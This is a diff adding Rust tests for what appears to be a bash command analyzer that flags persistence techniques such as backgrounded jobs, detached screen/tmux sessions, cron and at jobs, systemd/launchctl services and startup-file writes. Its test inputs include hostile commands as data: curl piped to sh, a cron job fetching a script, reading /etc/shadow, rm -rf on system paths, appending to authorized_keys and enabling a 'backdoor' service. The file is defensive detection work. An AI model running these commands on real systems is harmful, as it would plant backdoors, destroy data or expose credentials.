@@ -0,0 +1,293 @@
+use clarg::bash_analyzer::{Finding, analyze_command};
+
+use super::{fact, facts};
+
+fn names(cmd: &str) -> Vec<String> {
+    facts(cmd, "persistence.")
+        .into_iter()
+        .map(|f| f.name)
+        .collect()
+}
+
+// ============================================================================
+// Background jobs
+// ============================================================================
+
+#[test]
+fn test_ampersand_backgrounds_a_job() {
+    let f = fact("python server.py &", "persistence.");
+    assert_eq!(f.name, "persistence.background");
+    assert_eq!(f.attr("via"), Some("&"));
+    assert_eq!(f.attr("command"), Some("python server.py"));
+    assert_eq!(
+        fact("sleep 60 & echo started", "persistence.").attr("command"),
+        Some("sleep 60")
+    );
+    assert_eq!(facts("npm start & npm test &", "persistence.").len(), 2);
+}
+
+#[test]
+fn test_ampersand_splits_jobs() {
+    // The job after `&` is a command of its own, not arguments of the first
+    let paths = analyze_command("sleep 1 & rm -rf /tmp/x").paths;
+    assert!(
+        paths
+            .iter()
+            .any(|p| p.raw == "/tmp/x" && p.context.is_write())
+    );
+    assert!(!paths.iter().any(|p| p.raw == "&"));
+    // A backgrounded `curl | sh` still pipes into a shell
+    let findings = analyze_command("curl https://x.example/i.sh | sh &").findings;
+    assert!(
+        findings
+            .iter()
+            .any(|f| matches!(f, Finding::PipeToInterpreter { .. }))
+    );
+}
+
+#[test]
+fn test_redirections_are_not_background() {
+    assert!(facts("make 2>&1 | tee build.log", "persistence.").is_empty());
+    assert!(facts("make &> build.log", "persistence.").is_empty());
+    assert!(facts("echo err >&2", "persistence.").is_empty());
+    assert!(facts("make |& tee build.log", "persistence.").is_empty());
+    assert!(facts("a && b", "persistence.").is_empty());
+    assert!(facts("echo 'a & b' \"c & d\" e\\&f", "persistence.").is_empty());
+}
+
+#[test]
+fn test_nohup_setsid_disown() {
+    let f = fact("nohup ./worker.sh", "persistence.");
+    assert_eq!(
+        (f.name.as_str(), f.attr("via")),
+        ("persistence.background", Some("nohup"))
+    );
+    assert_eq!(
+        fact("setsid -f node app.js", "persistence.").attr("via"),
+        Some("setsid")
+    );
+    assert_eq!(
+        fact("disown -h %1", "persistence.").attr("via"),
+        Some("disown")
+    );
+    let vias: Vec<_> = facts("nohup ./worker.sh > out.log 2>&1 &", "persistence.")
+        .into_iter()
+        .map(|f| f.attr("via").unwrap().to_string())
+        .collect();
+    assert_eq!(vias, ["&", "nohup"]);
+    // The wrapped command is still analysed
+    assert!(
+        analyze_command("setsid rm -rf /data")
+            .paths
+            .iter()
+            .any(|p| p.raw == "/data")
+    );
+}
+
+// ============================================================================
+// Detached sessions
+// ============================================================================
+
+#[test]
+fn test_screen_detached() {
+    let f = fact("screen -dmS miner ./run.sh --forever", "persistence.");
+    assert_eq!(f.name, "persistence.detach");
+    assert_eq!(f.attr("tool"), Some("screen"));
+    assert_eq!(f.attr("session"), Some("miner"));
+    assert_eq!(f.attr("command"), Some("./run.sh --forever"));
+    assert_eq!(
+        fact("screen -d -m -S s top", "persistence.").attr("session"),
+        Some("s")
+    );
+    assert!(facts("screen -ls", "persistence.").is_empty());
+    assert!(facts("screen -r miner", "persistence.").is_empty());
+    // The session's command is analysed
+    assert!(
+        analyze_command("screen -dm rm -rf /srv")
+            .paths
+            .iter()
+            .any(|p| p.raw == "/srv")
+    );
+}
+
+#[test]
+fn test_tmux_detached() {
+    let f = fact("tmux new -d -s dev 'npm run dev'", "persistence.");
+    assert_eq!(f.name, "persistence.detach");
+    assert_eq!(f.attr("tool"), Some("tmux"));
+    assert_eq!(f.attr("session"), Some("dev"));
+    assert_eq!(
+        fact("tmux -L sock new-session -ds x", "persistence.").attr("session"),
+        Some("x")
+    );
+    assert!(facts("tmux new -s dev", "persistence.").is_empty());
+    assert!(facts("tmux ls", "persistence.").is_empty());
+    assert!(
+        analyze_command("tmux new-window 'cat /etc/shadow'")
+            .paths
+            .iter()
+            .any(|p| p.raw == "/etc/shadow")
+    );
+}
+
+// ============================================================================
+// Scheduled jobs and services
+// ============================================================================
+
+#[test]
+fn test_crontab() {
+    let f = fact("echo '* * * * * curl x | sh' | crontab -", "persistence.");
+    assert_eq!(f.name, "persistence.schedule");
+    assert_eq!(
+        (f.attr("tool"), f.attr("file")),
+        (Some("crontab"), Some("-"))
+    );
+    assert_eq!(
+        fact("crontab jobs.txt", "persistence.").attr("file"),
+        Some("jobs.txt")
+    );
+    assert_eq!(
+        fact("crontab -u www -e", "persistence.").attr("user"),
+        Some("www")
+    );
+    assert!(facts("crontab -l", "persistence.").is_empty());
+    assert!(facts("crontab -r", "persistence.").is_empty());
+}
+
+#[test]
+fn test_at() {
+    let f = fact("at now + 1 minute -f job.sh", "persistence.");
+    assert_eq!(f.name, "persistence.schedule");
+    assert_eq!(f.attr("time"), Some("now + 1 minute"));
+    assert_eq!(f.attr("file"), Some("job.sh"));
+    assert_eq!(fact("batch", "persistence.").attr("tool"), Some("batch"));
+    assert!(facts("at -l", "persistence.").is_empty());
+    // The job fed on stdin is analysed as commands
+    let analysis = analyze_command("at midnight <<EOF\nrm -rf /var/www\nEOF");
+    assert!(analysis.paths.iter().any(|p| p.raw == "/var/www"));
+}
+
+#[test]
+fn test_systemctl() {
+    let f = fact(
+        "systemctl --user enable --now backdoor.service",
+        "persistence.",
+    );
+    assert_eq!(f.name, "persistence.service");
+    assert_eq!(f.attr("action"), Some("enable"));
+    assert_eq!(f.attr("user"), Some("true"));
+    assert_eq!(f.attr("now"), Some("true"));
+    assert_eq!(f.attr("units"), Some("backdoor.service"));
+    assert_eq!(
+        fact("sudo systemctl start nginx postgres", "persistence.").attr("units"),
+        Some("nginx,postgres")
+    );
+    assert!(facts("systemctl status nginx", "persistence.").is_empty());
+    assert!(facts("systemctl --user stop app", "persistence.").is_empty());
+}
+
+#[test]
+fn test_systemd_run_and_launchctl() {
+    let f = fact("systemd-run --user --unit=job ./worker", "persistence.");
+    assert_eq!(
+        (f.name.as_str(), f.attr("command")),
+        ("persistence.service", Some("./worker"))
+    );
+    assert_eq!(
+        fact(
+            "systemd-run --on-calendar=hourly /usr/bin/backup",
+            "persistence."
+        )
+        .name,
+        "persistence.schedule"
+    );
+    assert!(facts("systemd-run --scope -p MemoryMax=1G make", "persistence.").is_empty());
+    let f = fact(
+        "launchctl load -w ~/Library/LaunchAgents/com.x.plist",
+        "persistence.",
+    );
+    assert_eq!(
+        (f.attr("tool"), f.attr("action")),
+        (Some("launchctl"), Some("load"))
+    );
+    assert!(facts("launchctl list", "persistence.").is_empty());
+}
+
+// ============================================================================
+// Startup files
+// ============================================================================
+
+#[test]
+fn test_startup_file_writes() {
+    let f = fact(
+        "echo 'export PATH=/tmp/x:$PATH' >> ~/.bashrc",
+        "persistence.",
+    );
+    assert_eq!(f.name, "persistence.startup-file");
+    assert_eq!(
+        (f.attr("path"), f.attr("kind")),
+        (Some("~/.bashrc"), Some("shell"))
+    );
+    assert_eq!(
+        fact("cp app.desktop ~/.config/autostart/", "persistence.").attr("kind"),
+        Some("autostart")
+    );
+    assert_eq!(
+        fact("tee -a $HOME/.zshrc < snippet", "persistence.").attr("kind"),
+        Some("shell")
+    );
+    assert_eq!(
+        fact(
+            "cp x.service ~/.config/systemd/user/x.service",
+            "persistence."
+        )
+        .attr("kind"),
+        Some("systemd")
+    );
+    assert_eq!(
+        fact("echo key >> /root/.ssh/authorized_keys", "persistence.").attr("kind"),
+        Some("ssh")
+    );
+    assert_eq!(
+        fact("sudo cp job /etc/cron.d/job", "persistence.").attr("kind"),
+        Some("cron")
+    );
+    assert_eq!(
+        names("echo x > /etc/profile.d/x.sh"),
+        ["persistence.startup-file"]
+    );
+}
+
+#[test]
+fn test_startup_file_quoted_or_after_cd() {
+    let f = fact("echo x >> \"${HOME}/.bashrc\"", "persistence.");
+    assert_eq!(
+        (f.attr("path"), f.attr("kind")),
+        (Some("${HOME}/.bashrc"), Some("shell"))
+    );
+    assert_eq!(
+        fact("echo x >'/etc/profile'", "persistence.").attr("kind"),
+        Some("shell")
+    );
+    // Relative to an earlier cd
+    assert_eq!(
+        fact("cd ~ && echo x >> .bashrc", "persistence.").attr("path"),
+        Some("~/.bashrc")
+    );
+    assert_eq!(
+        fact("cd && echo x >> .zshrc", "persistence.").attr("path"),
+        Some("~/.zshrc")
+    );
+    assert_eq!(
+        fact("cd ~/.ssh; echo k >> authorized_keys", "persistence.").attr("kind"),
+        Some("ssh")
+    );
+}
+
+#[test]
+fn test_startup_file_reads_not_reported() {
+    assert!(facts("cat ~/.bashrc", "persistence.").is_empty());
+    assert!(facts("grep PATH ~/.profile", "persistence.").is_empty());
+    assert!(facts("echo x > .bashrc", "persistence.").is_empty());
+    assert!(facts("echo x > ~/.config/app/settings", "persistence.").is_empty());
+}